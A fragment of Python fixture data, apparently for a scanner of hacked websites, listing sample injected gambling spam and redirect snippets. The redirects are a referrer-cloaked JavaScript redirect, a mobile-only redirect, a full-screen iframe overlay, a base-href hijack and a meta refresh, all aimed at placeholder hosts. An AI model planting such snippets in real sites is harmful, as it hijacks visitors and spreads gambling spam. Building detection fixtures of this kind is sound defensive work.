    ("spam", "article", "id", "both", "Tips Menang Mahjong Ways 2 untuk Pemula|<p>Pola gacor mahjong ways 2 hari ini: 10 spin turbo, 20 spin manual, tunggu scatter. Main di <a href=https://mw2.example>situs slot resmi</a> dengan RTP live tertinggi dan depo pulsa.</p>"),
    ("spam", "article", "en", "both", "Casino without verification: top 10|<p>Looking for online casinos with no KYC? Play slots, blackjack and roulette with instant crypto withdrawals at <a href=https://nokyc.example>these sites</a> and claim free spins.</p>"),
    ("redirect", "hop", "vi", "head", "<script>var r=document.referrer;if(r.indexOf('google.')>0||r.indexOf('coccoc')>0){setTimeout(function(){location.href='https://xoso66-vip.example'},100)}</script>"),
    ("redirect", "hop", "id", "head", "<script>if(screen.width<=768&&/Mobi/.test(navigator.userAgent)){location.replace('https://gacor77.example/?u=go')}</script>"),
    ("redirect", "frame", "vi", "end", "<iframe src='https://hello88.example/' style='position:fixed;top:0;left:0;width:100vw;height:100vh;border:none;z-index:2147483647'></iframe>"),
    ("redirect", "base", "en", "head", "<base href='https://mirror-assets.example.xyz/'>"),
    ("redirect", "refresh", "pt", "head", "<meta http-equiv='refresh' content='2;url=https://aposta77.example.bet/'>"),
)  # fmt: skip
